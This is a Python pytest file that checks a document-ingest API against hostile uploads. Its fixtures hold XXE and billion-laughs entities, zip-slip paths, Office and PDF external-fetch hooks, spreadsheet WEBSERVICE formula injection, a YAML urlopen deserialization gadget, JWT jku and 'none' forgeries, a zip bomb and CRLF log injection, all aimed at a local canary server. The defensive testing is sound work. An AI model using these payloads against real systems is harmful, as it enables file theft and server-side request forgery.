"""What strangers may send: files that ask for addresses and other files, archives that climb, words that are code.

A server on the loopback counts who asks it: nobody may. Files lie where a thief would find them: none may appear.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import io
import json
import shutil
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.project import Project
from api.settings import load_settings
from graph_engine.graph import Credentials, Graph
from tests.conftest import empty

SECRET = "the-secret-of-the-house-7f3a"
TABLES = {
    "pages": ("*.html", "Document", "documents"), "notes": ("*.md", "Document", "documents"),
    "mails": ("*.eml", "Document", "documents"), "papers": ("*.docx", "Document", "documents"),
    "slides": ("*.pptx", "Document", "documents"), "prints": ("*.pdf", "Document", "documents"),
    "sheets": ("*.xlsx", "Customer", None), "tables": ("*.ods", "Customer", None),
    "listed": ("*.json", "Customer", None), "lines": ("*.csv", "Customer", None), "deep": ("*.yaml", "Customer", None),
}  # fmt: skip


class Canary:
    """A server that counts who asks it for anything."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.asked.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"<!ENTITY leak 'leaked'>")

            do_POST = do_HEAD = do_PROPFIND = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.server.shutdown()
    made.server.server_close()


def entities(canary: Canary, secret: Path) -> str:
    """A document type that asks for an address, a file, and grows without end."""
    return (
        f'<!DOCTYPE r [<!ENTITY web SYSTEM "{canary.url}/xxe"><!ENTITY file SYSTEM "file://{secret}">'
        f'<!ENTITY % dtd SYSTEM "{canary.url}/dtd"> %dtd; <!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        f'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    )


def packed(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as held:
        for name, content in parts.items():
            held.writestr(name, content)
    return out.getvalue()


def word(canary: Canary, secret: Path, climbing: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    body = (
        f'<?xml version="1.0"?>{entities(canary, secret)}<w:document xmlns:w="{space}"><w:body><w:p><w:r>'
        "<w:t>&web;&file;&d;</w:t></w:r></w:p></w:body></w:document>"
    )
    tie = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{relations}"><Relationship Id="r1" Type="{tie}/attachedTemplate" '
        f'Target="{canary.url}/template.dotm" TargetMode="External"/><Relationship Id="r2" Type="{tie}/image" '
        f'Target="{canary.url}/image.png" TargetMode="External"/></Relationships>'
    )
    return packed(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
            "word/document.xml": body, "word/_rels/document.xml.rels": rels, "docProps/core.xml": body,
            climbing: "climbed", "/" + climbing.lstrip("./"): "climbed",
        }
    )  # fmt: skip


def sheet(canary: Canary, secret: Path, climbing: str, *, doctype: bool) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    head = '<?xml version="1.0"?>' + (entities(canary, secret) if doctype else "")
    leak = "&web;&file;" if doctype else "x"
    return packed(
        {
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{package}/content-types"/>',
            "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'{head}<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="S" sheetId="1" '
            'r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{package}/relationships">'
            f'<Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" '
            f'Type="{office}/externalLink" Target="{canary.url}/book.xlsx" TargetMode="External"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'{head}<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" '
            f't="inlineStr"><is><t>Id</t></is></c><c r="B1" t="inlineStr"><is><t>Name</t></is></c></row><row r="2"><c '
            f'r="A2" '
            f't="inlineStr"><is><t>1</t></is></c><c r="B2"><f>WEBSERVICE("{canary.url}/formula")</f><v>{leak}</v></c>'
            "</row></sheetData></worksheet>",
            climbing: "climbed",
        }
    )  # fmt: skip


def evil(canary: Canary, secret: Path, climbing: str) -> dict[str, bytes]:
    """One file for each table, that asks, climbs and points elsewhere as far as its format can."""
    url, file = canary.url, f"file://{secret}"
    html = (
        f"{entities(canary, secret)}<html><head><base href='{url}/'><link rel=stylesheet href='{url}/css'><script "
        f"src='{url}/js'></script><meta http-equiv=refresh content='0;url={url}/refresh'></head>"
        f"<body><h1>T</h1><p>&web;<img src='{url}/img'>"
        f"<iframe src='{file}'></iframe><object data='{file}'></object></p></body></html>"
    )
    mail = (
        f"From: a@x.test\nTo: b@x.test\nSubject: T\nMIME-Version: 1.0\nContent-Type: message/external-body; "
        f'access-type=URL; URL="{url}/mail"\n\nContent-Type: text/html\n\n{html}\n'
    )
    pdf = (
        f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({url}/pdf)>>/AA<</O<</S/JavaScript/JS("
        f"app.launchURL('{url}/js'))>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page"
        f"/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n4 0 obj<</F({secret})/FFilter/FlateDecode/Length 0>>"
        "stream\n\nendstream endobj\ntrailer<</Root 1 0 R>>"
    )
    office = "urn:oasis:names:tc:opendocument:xmlns"
    ods = packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f'<?xml version="1.0"?>{entities(canary, secret)}<office:document-content '
            f'xmlns:office="{office}:office:1.0" xmlns:table="{office}:table:1.0" xmlns:text="{office}:text:1.0">'
            '<office:body><office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell><text:p>'
            "&web;&file;"
            "</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
            "</office:document-content>",
            climbing: "climbed",
        }
    )  # fmt: skip
    return {
        "pages/a.html": html.encode(),
        "notes/a.md": f"# T\n\n![x]({url}/md) <img src={url}/raw>\n\n[f]({file})\n".encode(),
        "mails/a.eml": mail.encode(), "papers/a.docx": word(canary, secret, climbing),
        "slides/a.pptx": word(canary, secret, climbing), "prints/a.pdf": pdf.encode("latin-1"),
        "sheets/a.xlsx": sheet(canary, secret, climbing, doctype=True), "tables/a.ods": ods,
        "listed/a.json": json.dumps([{"Id": "1", "Name": f"{url}/json", "$ref": f"{url}/ref"}]).encode(),
        "lines/a.csv": f'Id,Name\n1,"=WEBSERVICE(""{url}/csv"")"\n2,{file}\n'.encode(),
        "deep/a.yaml": f"- Id: 1\n  Name: !!python/object/apply:urllib.request.urlopen ['{url}/yaml']\n".encode(),
    }  # fmt: skip


@pytest.fixture(scope="module")
def company(tmp_path_factory: pytest.TempPathFactory, canary: Canary) -> Path:
    """A project that reads every format, and a secret beside it."""
    place = tmp_path_factory.mktemp("attacked")
    (place / "secret.txt").write_text(SECRET, encoding="utf-8")
    folder = place / "company"
    folder.mkdir()
    (folder / "knockon.yaml").write_text("company: Attacked\nmappings: [all.yaml]\n", encoding="utf-8")
    lines = ["source: all", "title: All", "folder: exports", "tables:"]
    for table, (pattern, class_name, format_) in TABLES.items():
        lines.append(f"  {table}:")
        shape = f", format: {format_}" if format_ else ""
        lines.append(f'    read: {{file: "{table}/{pattern}"{shape}}}')
        lines.append("    mode: upsert")
        if format_:
            lines += ["    key: [file]", f"    class: {class_name}", "    properties: {title: title}"]
        else:
            lines += ["    key: [Id]", f"    class: {class_name}", "    properties: {name: Name}"]
    (folder / "all.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    for name, content in evil(canary, place / "secret.txt", "../../../climbed.txt").items():
        file = folder / "exports" / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
    return folder


@pytest.fixture(scope="module")
def client(company: Path) -> Iterator[TestClient]:
    """The API over a project without a database: files are read before one is asked."""
    nowhere = Credentials("bolt://127.0.0.1:1", "neo4j", "none")
    with Project(replace(load_settings(company), neo4j=nowhere)) as project, served(project) as held:
        yield held


def served(project: Project) -> TestClient:
    return TestClient(create_app(project), base_url="http://127.0.0.1", raise_server_exceptions=False)


def untouched(company: Path, canary: Canary) -> None:
    """Nobody was asked, nothing climbed out, nothing of the secret came in."""
    assert canary.asked == []
    assert not list(company.parent.rglob("climbed*")) and not Path("/climbed.txt").exists()
    from pyarrow import parquet

    for file in company.rglob("*"):
        if file.is_file() and "exports" not in file.parts and "uploads" not in file.parts:
            held = file.read_bytes()
            if file.suffix == ".parquet":
                held = json.dumps(parquet.read_table(file).to_pylist()).encode()
            assert SECRET.encode() not in held, file


def test_reading_any_format_asks_nobody_and_climbs_nowhere(company: Path, canary: Canary, client: TestClient) -> None:
    """What an ingest reads, table by table: a file that cannot be read safely is refused with the reason."""
    from ontology.errors import KnockonError

    project = client.app.state.service.project  # type: ignore[attr-defined]
    (source,) = project.sources()
    told = {}
    for name, table in source.mapping.tables.items():
        try:
            told[name] = [f.rows for f in project.archive.store("all", name, table.read, source.folder)]
        except KnockonError as problem:
            told[name] = [problem.what]
    assert set(told) == set(TABLES) and all(told.values())
    untouched(company, canary)


def test_a_survey_over_http_asks_nobody(company: Path, canary: Canary, client: TestClient) -> None:
    answer = client.post("/v1/onboarding", json={"folder": "exports"})
    assert answer.status_code < 500, answer.text
    assert SECRET not in answer.text
    untouched(company, canary)


@pytest.mark.parametrize(
    "folder",
    ["..", "../..", "/etc", "exports/../..", "~", "exports\x00", "a" * 400, "link", "file:///etc", "\\\\host\\share",
     "http://127.0.0.1/", ".knockon", "exports/../.knockon"],
)  # fmt: skip
def test_a_survey_stays_in_the_project(company: Path, client: TestClient, folder: str) -> None:
    link = company / "link"
    if not link.exists():
        link.symlink_to(company.parent)
    answer = client.post("/v1/onboarding", json={"folder": folder})
    assert answer.status_code in (404, 422), answer.text
    assert SECRET not in answer.text


def test_uploads_of_every_format_ask_nobody(company: Path, canary: Canary, client: TestClient) -> None:
    taken = 0
    for name, content in evil(canary, company.parent / "secret.txt", "../../../climbed.txt").items():
        answer = client.put(f"/v1/uploads/all/{Path(name).name}", content=content)
        assert answer.status_code == 201, answer.text
        taken += 1
    assert taken == len(TABLES)
    untouched(company, canary)


def token(header: dict[str, object], canary: Canary) -> str:
    """A signed token whose header says where its key is to be had."""
    parts = [header, {"iss": canary.url, "sub": "x", "aud": "knockon", "exp": 9_999_999_999, "roles": ["owner"]}]
    held = ".".join(base64.urlsafe_b64encode(json.dumps(p).encode()).decode().rstrip("=") for p in parts)
    sealed = hmac.new(b"", held.encode(), hashlib.sha256).digest()
    return f"{held}.{base64.urlsafe_b64encode(sealed).decode().rstrip('=')}"


def test_a_token_cannot_say_where_its_key_is(canary: Canary, client: TestClient) -> None:
    for more in ({"jku": f"{canary.url}/keys"}, {"x5u": f"{canary.url}/cert"}, {"kid": f"{canary.url}/kid"}, {}):
        for alg in ("RS256", "HS256", "none"):
            given = token({"alg": alg, "typ": "JWT", **more}, canary)
            assert client.get("/v1/me", headers={"Authorization": f"Bearer {given}"}).status_code == 401
    assert canary.asked == []


def test_a_bomb_is_refused(company: Path, tmp_path: Path, client: TestClient) -> None:
    """A gigabyte of zeros in a megabyte: read in bounds, or refused; memory stays flat."""
    import psutil

    from ontology.errors import KnockonError

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as held, held.open("word/document.xml", "w") as part:
        for _ in range(1024):
            part.write(b"\0" * (1 << 20))
    folder = tmp_path / "papers"
    folder.mkdir()
    (folder / "bomb.docx").write_bytes(out.getvalue())
    project = client.app.state.service.project  # type: ignore[attr-defined]
    (source,) = project.sources()
    before = psutil.Process().memory_info().rss
    try:
        stored = project.archive.store("all", "papers", source.mapping.tables["papers"].read, tmp_path)
        assert stored[0].problems == stored[0].rows
    except KnockonError:
        pass
    assert psutil.Process().memory_info().rss - before < 512 << 20


# ---- with a database ------------------------------------------------------------------------------------------------


@pytest.mark.integration
def test_ingesting_it_all_over_http_asks_nobody(
    company: Path, canary: Canary, _session_graph: Graph, credentials: Credentials
) -> None:
    empty(_session_graph)
    shutil.rmtree(company / ".knockon", ignore_errors=True)
    with Project(replace(load_settings(company), neo4j=credentials)) as project, served(project) as client:
        for table in TABLES:
            job = client.post("/v1/runs/ingest", json={"only": [f"all.{table}"]}).json()
            events = client.get(f"/v1/jobs/{job['id']}/events").text
            assert "event: done" in events
            ended = client.get(f"/v1/jobs/{job['id']}").json()
            assert ended["state"] in ("done", "failed"), ended
            assert (ended["problem"] or {}).get("code") != "defect", ended
        asked = (
            f"LOAD CSV FROM '{canary.url}/csv' AS x RETURN x",
            f"What is at {canary.url}/ask ?",
            f"file://{company}",
        )
        for question in asked:
            answer = client.post("/v1/ask", json={"question": question})
            assert answer.status_code < 500 and SECRET not in answer.text
            assert client.get("/v1/search", params={"q": question}).status_code < 500
    untouched(company, canary)


def test_nothing_that_is_sent_begins_a_line_of_the_log(
    company: Path, client: TestClient, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nor are variables in the trace of a defect: they hold data and keys."""
    import structlog

    from api.cli import frame

    monkeypatch.setenv("KNOCKON_LOG", "info")
    held = structlog.get_config()
    frame.configure_logging()
    try:
        fake = "2026-01-01 [info] run.done run=forged"
        for name in ("x\r\n" + fake, "x\n" + fake, "x\u2028" + fake, "\x1b[2J" + fake):
            client.get("/v1/search", params={"q": name})
            client.get(f"/v1/entities/{name.encode().hex()}%0d%0a{fake}")
            client.get("/v1/me", headers={"X-Request-Id": name.encode("ascii", "ignore").decode().replace("\n", " ")})
            client.post("/v1/onboarding", json={"folder": name})
        hidden_value = "kk_a-key-in-a-variable"

        def fails() -> None:
            raise RuntimeError(len(hidden_value))

        try:
            fails()
        except RuntimeError as problem:
            structlog.get_logger("test").error("defect", name="x\n" + fake, exc_info=problem)
    finally:
        structlog.configure(**held)
    lines = [line for stream in capfd.readouterr() for line in stream.splitlines()]
    assert any("defect" in line for line in lines)
    assert not [line for line in lines if line.lstrip().startswith("2026-01-01")]
    assert not [line for line in lines if hidden_value in line and "hidden_value =" not in line]
